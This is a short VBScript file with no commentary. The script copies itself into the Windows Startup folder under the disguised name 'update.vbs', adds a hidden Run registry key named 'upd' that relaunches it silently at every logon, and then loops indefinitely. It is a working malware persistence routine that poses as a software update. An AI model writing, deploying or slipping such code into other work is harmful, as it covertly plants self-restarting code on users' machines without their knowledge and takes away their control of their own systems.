Set f = CreateObject("Scripting.FileSystemObject")
Set s = CreateObject("WScript.Shell")
place = s.SpecialFolders("Startup") & "\update.vbs"
If WScript.ScriptFullName <> place Then f.CopyFile WScript.ScriptFullName, place, True
s.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd", "wscript.exe //B """ & place & """", "REG_SZ"
Do
  WScript.Sleep 30000
Loop
